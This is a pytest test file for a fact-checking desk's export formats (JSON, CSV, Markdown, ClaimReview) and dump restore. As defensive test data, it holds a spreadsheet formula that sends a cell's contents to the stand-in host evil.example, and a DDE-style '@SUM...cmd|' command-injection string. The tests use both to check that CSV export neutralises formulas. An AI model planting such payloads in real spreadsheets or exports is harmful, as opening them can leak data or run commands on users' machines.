"""Every export format against the seed article after a scripted review on a real desk.

The review touches each verdict, sources (one with an Arabic title, one with a URL that
needs escaping), corrections and notes holding quotes, commas, newlines, CJK and emoji,
and a note that is a spreadsheet formula -- the things that break exporters.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from core.desk import Desk
from core.errors import DeskError, UserError
from core.export import ExportCancelled, export, restore_dump
from core.importing import import_path
from core.review import Review

TRICKY_NOTE = 'He said "26, not 29",\nthen left — 中文 مرحبا 😀'
FORMULA_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ARABIC_TITLE = "تقرير وزارة العدل"


def find_claim(desk: Desk, statement_part: str, figure_part: str):
    """The seed claim whose statement and key figure contain the given text."""
    hits = [
        c
        for c in desk.claims(statuses=None, all_versions=False)
        if statement_part in c.statement and c.key_figure and figure_part in c.key_figure.text
    ]
    assert hits, f"no claim with {statement_part!r} / {figure_part!r}"
    return hits[0]


def review_seed(desk: Desk, seed_path: Path) -> dict[str, str]:
    """Import the seed and review five of its claims; return role → claim id."""
    import_path(desk, seed_path, "tester")
    review = Review(desk, "tester")
    roles = {
        "verified": find_claim(desk, "expelled", "26").id,
        "corrected": find_claim(desk, "handed over", "29").id,
        "false": find_claim(desk, "taxed at", "50").id,
        "inconclusive": find_claim(desk, "extension", "90").id,
        "needs_source": find_claim(desk, "sweeping", "25").id,
    }
    review.set_status(roles["verified"], "verified")
    review.add_source(
        roles["verified"],
        "https://www.aljazeera.com/news/2025/8/13/mexico-sends-26 (live)",
        title='Al Jazeera: "Mexico sends 26" [report]',
        note="wire copy, confirmed",
    )
    review.correct(
        roles["corrected"],
        value="29",
        statement='Mexico handed over 29 people, "alleged" cartel figures',
        note="per the DOJ, 27 February",
    )
    review.add_source(roles["corrected"], "https://www.justice.gov/opa/pr/x", title=ARABIC_TITLE)
    review.add_note(roles["corrected"], TRICKY_NOTE)
    review.set_status(roles["false"], "false", note=FORMULA_NOTE)
    review.set_status(roles["inconclusive"], "inconclusive")
    review.set_status(roles["needs_source"], "needs_source")
    return roles


@pytest.fixture
def desk(tmp_path, seed_path):
    with Desk.open(tmp_path / "desk.json") as opened:
        opened.roles = review_seed(opened, seed_path)  # type: ignore[attr-defined]
        yield opened


def run(desk: Desk, fmt: str, **kwargs) -> tuple[str, int]:
    buf = io.StringIO()
    count = export(desk, fmt, buf, **kwargs)
    return buf.getvalue(), count


REVIEWED = ("verified", "corrected", "false", "inconclusive")


# ------------------------------------------------------------------------------- json


def test_json_dump_holds_every_stored_field_and_the_history(desk):
    text, count = run(desk, "json")
    dump = json.loads(text)
    assert dump["format"] == "claimdesk-dump" and dump["version"] == 1
    assert dump["filters"]["statuses"] == list(REVIEWED)
    ids = [c["id"] for c in dump["claims"]]
    assert count == len(ids) == 4
    assert sorted(ids) == sorted(desk.roles[r] for r in REVIEWED)
    for record in dump["claims"]:
        history = record.pop("history")
        assert record == desk.claim(record["id"]).to_dict()  # every field, as stored
        assert history == [e.to_dict() for e in desk.events(record["id"])]
        assert history, "a reviewed claim has at least one event"
    assert [a["id"] for a in dump["articles"]] == [a.id for a in desk.articles()]
    assert dump["articles"][0] == desk.articles()[0].to_dict()
    event_claims = {e["claim_id"] for e in dump["events"]}
    assert event_claims == set(ids)  # events of claims outside the filter stay out
    corrected = next(c for c in dump["claims"] if c["id"] == desk.roles["corrected"])
    assert corrected["notes"][-1]["text"] == TRICKY_NOTE
    assert corrected["sources"][0]["title"] == ARABIC_TITLE
    assert ARABIC_TITLE in text  # written as UTF-8, not \u escapes


def test_json_status_filter_gives_the_sourcing_queue(desk):
    dump = json.loads(run(desk, "json", statuses=["needs_source"])[0])
    assert [c["id"] for c in dump["claims"]] == [desk.roles["needs_source"]]
    everything = json.loads(run(desk, "json", statuses="all")[0])
    assert len(everything["claims"]) == len(desk.claims())


def test_since_in_the_future_selects_nothing_and_bad_since_is_a_user_error(desk):
    dump = json.loads(run(desk, "json", since="2999-01-01")[0])
    assert dump["claims"] == [] and dump["filters"]["since"].startswith("2999-01-01")
    assert len(json.loads(run(desk, "json", since="2000-01-01")[0])["claims"]) == 4
    with pytest.raises(UserError):
        run(desk, "json", since="yesterday")


def test_unknown_article_and_format_are_user_errors(desk):
    with pytest.raises(UserError, match="no article"):
        run(desk, "json", article_ids=["ffffffffffff"])
    with pytest.raises(UserError, match="unknown export format"):
        run(desk, "yaml")
    article_id = desk.articles()[0].id
    dump = json.loads(run(desk, "json", article_ids=[article_id[:6]])[0])
    assert dump["filters"]["article_ids"] == [article_id]
    assert len(dump["claims"]) == 4


def test_jsonl_is_one_record_per_line_in_streamable_order(desk):
    text, count = run(desk, "jsonl")
    records = [json.loads(line) for line in text.splitlines()]
    kinds = [r["record"] for r in records]
    assert kinds[0] == "header"
    assert kinds == sorted(kinds, key=["header", "article", "claim", "event"].index)
    claims = [r for r in records if r["record"] == "claim"]
    assert count == len(claims) == 4
    as_json = json.loads(run(desk, "json")[0])
    assert [{k: v for k, v in c.items() if k != "record"} for c in claims] == [
        {k: v for k, v in c.items() if k != "history"} for c in as_json["claims"]
    ]
    assert sum(k == "event" for k in kinds) == len(as_json["events"])


# ---------------------------------------------------------------------------- restore


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_full_dump_restores_an_identical_desk(desk, tmp_path, fmt):
    Review(desk, "tester").undo()  # an undo event must survive the trip too
    first, count = run(desk, fmt, statuses="all", all_versions=True)
    with Desk.open(tmp_path / f"restored-{fmt}.json") as fresh:
        assert restore_dump(fresh, io.StringIO(first)) == count
    with Desk.open(tmp_path / f"restored-{fmt}.json") as reopened:  # durable, not cached
        second, _ = run(reopened, fmt, statuses="all", all_versions=True)
        assert [c.to_dict() for c in reopened.claims(all_versions=True)] == [
            c.to_dict() for c in desk.claims(all_versions=True)
        ]
    assert _without_stamp(first, fmt) == _without_stamp(second, fmt)


def _without_stamp(text: str, fmt: str):
    if fmt == "json":
        data = json.loads(text)
        data.pop("exported_at")
        return data
    records = [json.loads(line) for line in text.splitlines()]
    records[0].pop("exported_at")
    return records


def test_restore_refuses_filtered_dumps_full_desks_and_garbage(desk, tmp_path):
    filtered, _ = run(desk, "json")
    with Desk.open(tmp_path / "other.json") as fresh:
        with pytest.raises(UserError, match="filtered"):
            restore_dump(fresh, io.StringIO(filtered))
        with pytest.raises(UserError, match="not a claimdesk dump"):
            restore_dump(fresh, io.StringIO('{"hello": 1}'))
        with pytest.raises(UserError, match="not valid JSON"):
            restore_dump(fresh, io.StringIO("not json at all"))
        with pytest.raises(UserError, match="empty"):
            restore_dump(fresh, io.StringIO(""))
        assert fresh.articles(all_versions=True) == []
    full, _ = run(desk, "jsonl", statuses="all", all_versions=True)
    with pytest.raises(DeskError, match="already holds"):
        restore_dump(desk, io.StringIO(full))
    broken = full.replace('"record": "claim"', '"record": "clam"', 1)
    with Desk.open(tmp_path / "third.json") as fresh, pytest.raises(UserError, match="line"):
        restore_dump(fresh, io.StringIO(broken))


# -------------------------------------------------------------------------------- csv


def test_csv_has_one_row_per_claim_with_every_column(desk):
    text, count = run(desk, "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert count == len(rows) == 4
    assert text.endswith("\r\n")
    by_id = {r["claim_id"]: r for r in rows}
    article = desk.articles()[0]
    verified = by_id[desk.roles["verified"]]
    assert verified["article_id"] == article.id
    assert verified["article_title"] == article.title
    assert verified["key_figure"] == "26"
    assert verified["kind"] == "count" and verified["value"] == "26"
    assert verified["status"] == "verified" and verified["reviewer"] == "tester"
    assert verified["sources"] == "https://www.aljazeera.com/news/2025/8/13/mexico-sends-26 (live)"
    corrected = by_id[desk.roles["corrected"]]
    assert corrected["correction_value"] == "29"
    assert corrected["correction_statement"] == (
        'Mexico handed over 29 people, "alleged" cartel figures'
    )
    assert corrected["notes"].split("\n", 1)[0] == "per the DOJ, 27 February" or (
        TRICKY_NOTE in corrected["notes"]
    )
    assert TRICKY_NOTE in corrected["notes"]  # quotes, comma, newline, CJK, emoji intact
    claim = desk.claim(desk.roles["verified"])
    assert verified["statement"] == claim.statement
    assert verified["updated_at"] == claim.updated_at


def test_csv_has_the_correction_note_and_source_titles_and_notes_beside_their_urls(desk):
    Review(desk, "tester").add_source(
        desk.roles["verified"], "https://example.org/second", note="called the ministry"
    )
    rows = {r["claim_id"]: r for r in csv.DictReader(io.StringIO(run(desk, "csv")[0], newline=""))}
    header = next(csv.reader(io.StringIO(run(desk, "csv")[0])))
    at = header.index("sources")
    assert header[at : at + 3] == ["sources", "source_titles", "source_notes"]
    assert header[header.index("correction_statement") + 1] == "correction_note"
    verified = rows[desk.roles["verified"]]
    urls = verified["sources"].split(" | ")
    assert urls == [
        "https://www.aljazeera.com/news/2025/8/13/mexico-sends-26 (live)",
        "https://example.org/second",
    ]
    # The n-th title and note belong to the n-th URL; a missing one keeps its place.
    assert verified["source_titles"].split(" | ") == ['Al Jazeera: "Mexico sends 26" [report]', ""]
    assert verified["source_notes"].split(" | ") == ["wire copy, confirmed", "called the ministry"]
    corrected = rows[desk.roles["corrected"]]
    assert corrected["correction_note"] == "per the DOJ, 27 February"
    assert corrected["source_titles"] == ARABIC_TITLE
    assert corrected["source_notes"] == ""
    assert rows[desk.roles["inconclusive"]]["correction_note"] == ""


def test_csv_neutralises_formulas_from_notes_and_statements(desk):
    review = Review(desk, "tester")
    review.edit_statement(desk.roles["verified"], "@SUM(1+1)*cmd|' /C calc'!A0")
    review.correct(desk.roles["inconclusive"], value="-5", statement="+ 90 days, not 60")
    rows = {r["claim_id"]: r for r in csv.DictReader(io.StringIO(run(desk, "csv")[0], newline=""))}
    assert rows[desk.roles["false"]]["notes"] == "'" + FORMULA_NOTE
    assert rows[desk.roles["verified"]]["statement"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[desk.roles["inconclusive"]]["correction_value"] == "-5"  # a number stays one
    assert rows[desk.roles["inconclusive"]]["correction_statement"] == "'+ 90 days, not 60"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "@", "\t", "\r")), cell


# --------------------------------------------------------------------------- markdown


def test_markdown_memo_is_safe_to_paste(desk):
    text, count = run(desk, "markdown")
    assert count == 4
    article = desk.articles()[0]
    assert text.startswith("# Corrections memo: ")
    assert "**Claims:** 4 (1 verified, 1 corrected, 1 false, 1 inconclusive)" in text
    verified = desk.claim(desk.roles["verified"])
    assert "Mexico City [Mexico]" in article.text
    # statements quoted with Markdown specials escaped
    from core.export.memo import md_block

    assert f"> {md_block(verified.statement)}\n" in text
    assert (
        '- [Al Jazeera: "Mexico sends 26" \\[report\\]]'
        "(https://www.aljazeera.com/news/2025/8/13/mexico-sends-26%20%28live%29)"
    ) in text
    assert f"[{ARABIC_TITLE}](https://www.justice.gov/opa/pr/x)" in text
    assert (
        '**Correction:** 29 — Mexico handed over 29 people, "alleged" cartel figures '
        "(per the DOJ, 27 February)"
    ) in text
    assert 'He said "26, not 29", then left — 中文 مرحبا 😀' in text
    assert '\\=HYPERLINK("http://evil.example/?"\\&A1,"click")' in text
    assert "## 1. " in text and "## 4. " in text and "## 5. " not in text
    assert "Needs source" not in text


def test_markdown_escapes_article_title_and_statements(desk, tmp_path):
    from core.ingest import article_from_text

    review = Review(desk, "tester")
    article = article_from_text(
        "Mexico City [Mexico]: officials said *all* 7 of the `cartel_bosses` | left.\n",
        source="https://example.org/a_b",
        title="Title with [brackets] and *stars* and _under_ | pipe",
    )
    from core.extract import extract_claims

    review.import_article(article, extract_claims(article))
    claim = desk.claims(article.id)[0]
    review.set_status(claim.id, "verified")
    text, _ = run(desk, "markdown", article_ids=[article.id])
    assert (
        "# Corrections memo: Title with \\[brackets\\] and \\*stars\\* and \\_under\\_ \\| pipe"
        in text
    )
    assert "\\[Mexico\\]" in text and "\\*all\\*" in text and "\\`cartel\\_bosses\\`" in text
    assert "[https://example.org/a\\_b](https://example.org/a_b)" in text


def test_markdown_with_nothing_selected_says_so(desk):
    text, count = run(desk, "markdown", since="2999-01-01")
    assert count == 0 and "No claims match" in text


# ------------------------------------------------------------------------ claimreview


def test_claimreview_has_every_required_and_recommended_field(desk, monkeypatch):
    monkeypatch.setenv("CLAIMDESK_ORG_NAME", "Desk Checks")
    monkeypatch.setenv("CLAIMDESK_ORG_URL", "https://checks.example.org")
    monkeypatch.setenv("CLAIMDESK_REVIEW_URL", "https://checks.example.org/c/")
    warnings: list[str] = []
    text, count = run(desk, "claimreview", on_warning=warnings.append)
    reviews = json.loads(text)
    assert isinstance(reviews, list) and count == len(reviews) == 4
    assert warnings == []
    article = desk.articles()[0]
    expected = {
        "verified": (5, "True"),
        "corrected": (2, "Partly false"),
        "false": (1, "False"),
        "inconclusive": (3, "Unproven"),
    }
    by_url = {r["url"]: r for r in reviews}
    for role, (value, name) in expected.items():
        claim = desk.claim(desk.roles[role])
        review = by_url[f"https://checks.example.org/c/{claim.id}"]
        assert review["@context"] == "https://schema.org"
        assert review["@type"] == "ClaimReview"
        assert isinstance(review["claimReviewed"], str) and review["claimReviewed"]
        assert review["claimReviewed"] == " ".join(claim.statement.split())
        assert review["datePublished"] == claim.updated_at[:10]
        assert review["author"] == {
            "@type": "Organization",
            "name": "Desk Checks",
            "url": "https://checks.example.org",
        }
        rating = review["reviewRating"]
        assert rating["@type"] == "Rating"
        assert (rating["ratingValue"], rating["alternateName"]) == (value, name)
        assert isinstance(rating["ratingValue"], int)
        assert (rating["bestRating"], rating["worstRating"]) == (5, 1)
        item = review["itemReviewed"]
        assert item["@type"] == "Claim"
        if article.date and "X" not in article.date:
            assert item["datePublished"] == article.date
        assert "appearance" not in item  # the seed is a local file, not a URL
    corrected = by_url[f"https://checks.example.org/c/{desk.roles['corrected']}"]
    assert "Correct figure: 29." in corrected["reviewBody"]


def test_claimreview_names_the_outlet_and_appearance_for_web_sources(desk, monkeypatch):
    from core.extract import extract_claims
    from core.ingest import article_from_text

    article = article_from_text(
        # No one is quoted: the article's own claim, so its author is the outlet.
        "WASHINGTON, August 13, 2025: Forty people were detained on 12 August.\n",
        source="https://www.example-news.com/2025/08/13/story",
        title="Forty detained",
    )
    review = Review(desk, "tester")
    review.import_article(article, extract_claims(article))
    claim = desk.claims(article.id)[0]
    review.set_status(claim.id, "verified")
    reviews = json.loads(run(desk, "claimreview", article_ids=[article.id])[0])
    item = reviews[0]["itemReviewed"]
    assert item["author"] == {"@type": "Organization", "name": "example-news.com"}
    assert item["appearance"] == {
        "@type": "CreativeWork",
        "url": "https://www.example-news.com/2025/08/13/story",
        "headline": "Forty detained",
    }


def test_claimreview_reports_missing_required_fields_and_skips_unrated(desk, monkeypatch):
    for name in ("CLAIMDESK_ORG_NAME", "CLAIMDESK_ORG_URL", "CLAIMDESK_REVIEW_URL"):
        monkeypatch.delenv(name, raising=False)
    warnings: list[str] = []
    text, count = run(desk, "claimreview", statuses="all", on_warning=warnings.append)
    assert count == len(json.loads(text)) == 4
    assert any(w.startswith("4 ClaimReview object(s) lack required url") for w in warnings)
    assert any(w.startswith("4 ClaimReview object(s) lack required author") for w in warnings)
    assert any("skipped claims with no verdict" in w and "needs_source" in w for w in warnings)
    assert len(warnings) == 3


def test_claimreview_rating_map_changes_the_verdicts(desk):
    from core.export.claimreview import parse_rating_map

    ratings = parse_rating_map(
        {"ratings": {"corrected": {"value": 2, "name": "Misleading"}, "inconclusive": {}}}
    )
    warnings: list[str] = []
    reviews = json.loads(
        run(desk, "claimreview", rating_map=ratings, on_warning=warnings.append)[0]
    )
    names = sorted(r["reviewRating"]["alternateName"] for r in reviews)
    assert names == ["False", "Misleading", "True"]
    assert any("1 inconclusive" in w for w in warnings)


# ------------------------------------------------------------------ progress / cancel


def test_progress_reports_the_end_and_cancel_stops(desk):
    calls: list[tuple[int, int]] = []
    _, count = run(desk, "csv", progress=lambda done, total: calls.append((done, total)))
    assert calls[-1] == (count, count)
    with pytest.raises(ExportCancelled):
        run(desk, "json", cancel=lambda: True)


def test_round_trip_keeps_old_article_versions_and_removed_claims(tmp_path, seed_path):
    """A re-import leaves version 1 of the article and ``removed`` claims: both must survive."""
    article_file = tmp_path / "story.txt"
    text = seed_path.read_text(encoding="utf-8")
    article_file.write_text(text, encoding="utf-8")
    with Desk.open(tmp_path / "versions.json") as desk:
        import_path(desk, article_file, "tester")
        gone = find_claim(desk, "taxed at", "50")
        Review(desk, "tester").set_status(gone.id, "verified")
        article_file.write_text(
            text.replace(
                ", while steel, aluminium and copper exports are taxed at 50 per cent", ""
            ),
            encoding="utf-8",
        )
        import_path(desk, article_file, "tester")
        assert desk.claim(gone.id).status == "removed"
        first, _ = run(desk, "json", statuses="all", all_versions=True)
        current_only = json.loads(run(desk, "json", statuses="all")[0])
    dump = json.loads(first)
    assert [a["version"] for a in dump["articles"]] == [1, 2]
    assert gone.id in {c["id"] for c in dump["claims"]}
    assert [a["version"] for a in current_only["articles"]] == [2]
    with Desk.open(tmp_path / "restored.json") as fresh:
        restore_dump(fresh, io.StringIO(first))
        second, _ = run(fresh, "json", statuses="all", all_versions=True)
        assert fresh.article(dump["articles"][0]["id"], version=1).version == 1
    assert _without_stamp(first, "json") == _without_stamp(second, "json")


def test_export_reads_a_desk_another_process_is_writing(desk, capsys):
    """The workbench holds the desk's lock; an export beside it opens read-only."""
    from cli import main

    assert main(["export", "--desk", str(desk.path), "-f", "csv"]) == 0
    out, err = capsys.readouterr()
    assert err == "" and len(list(csv.DictReader(io.StringIO(out, newline="")))) == 4


def test_export_to_file_is_all_or_nothing(desk, tmp_path):
    from core.export import export_to_file

    target = tmp_path / "claims.csv"
    target.write_text("earlier export", encoding="utf-8")
    with pytest.raises(ExportCancelled):
        export_to_file(desk, "csv", target, cancel=lambda: True)
    assert target.read_text(encoding="utf-8") == "earlier export"
    assert export_to_file(desk, "csv", target, bom=True) == 4
    assert target.read_bytes().startswith(b"\xef\xbb\xbfarticle_id,")
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".claims")) == []


def test_the_cycle_collector_is_back_on_after_an_export_even_a_failed_one(desk):
    import gc

    assert gc.isenabled()
    run(desk, "json")
    assert gc.isenabled()
    with pytest.raises(ExportCancelled):
        run(desk, "csv", cancel=iter([False, True]).__next__)
    assert gc.isenabled()


def _bulk_desk(path: Path, n: int) -> Desk:
    """A desk of ``n`` verified claims in one article, written in one step."""
    from core.model import Article, Claim, Figure

    sentence = "Officials said 40 people left. "
    article = Article(id="bulk00000000", title="Bulk", source="bulk.txt", text=sentence * n)
    claims = [
        Claim(
            id=f"bulk{i:08d}",
            article_id=article.id,
            statement=sentence.strip(),
            start=i * len(sentence),
            end=(i + 1) * len(sentence) - 1,
            figures=[Figure("40", i * len(sentence) + 15, i * len(sentence) + 17, "count", 40)],
            status="verified",
            updated_at="2026-11-27T10:00:00+00:00",
        )
        for i in range(n)
    ]
    desk = Desk.open(path)
    desk.restore([article], claims, [])
    return desk


def test_progress_counts_up_to_the_total_and_cancel_stops_midway(tmp_path):
    with _bulk_desk(tmp_path / "bulk.json", 1200) as desk:
        calls: list[tuple[int, int]] = []
        _, count = run(desk, "jsonl", progress=lambda done, total: calls.append((done, total)))
        assert count == 1200
        assert calls == [(500, 1200), (1000, 1200), (1200, 1200)]

        seen: list[int] = []
        buf = io.StringIO()
        with pytest.raises(ExportCancelled):
            export(
                desk,
                "csv",
                buf,
                progress=lambda done, _total: seen.append(done),
                cancel=lambda: bool(seen),  # the user presses cancel after the first report
            )
        assert seen == [500]
        assert 500 < buf.getvalue().count("\r\n") < 1200


def test_the_whole_memo_has_the_structure_a_cms_will_render(desk):
    """Rendered by a CommonMark parser: one title, one section and quote per claim, the
    statements back verbatim, links only where sources are."""
    from markdown_it import MarkdownIt

    text, _ = run(desk, "markdown")
    tokens = MarkdownIt("commonmark").parse(text)
    headings = [
        (t.tag, tokens[i + 1].content) for i, t in enumerate(tokens) if t.type == "heading_open"
    ]
    assert [tag for tag, _ in headings] == ["h1", "h2", "h2", "h2", "h2"]
    assert headings[0][1].startswith("Corrections memo: ")

    def inline_text(token) -> str:
        return "".join(c.content for c in token.children if c.type in ("text", "softbreak"))

    quotes = [
        inline_text(tokens[i + 2]) for i, t in enumerate(tokens) if t.type == "blockquote_open"
    ]
    statements = [c.statement for c in desk.claims(statuses=REVIEWED)]
    assert quotes == [" ".join(s.split()) for s in statements]
    links = [
        child.attrs["href"]
        for t in tokens
        if t.type == "inline"
        for child in t.children
        if child.type == "link_open"
    ]
    assert links == [
        "https://www.aljazeera.com/news/2025/8/13/mexico-sends-26%20%28live%29",
        "https://www.justice.gov/opa/pr/x",
    ]
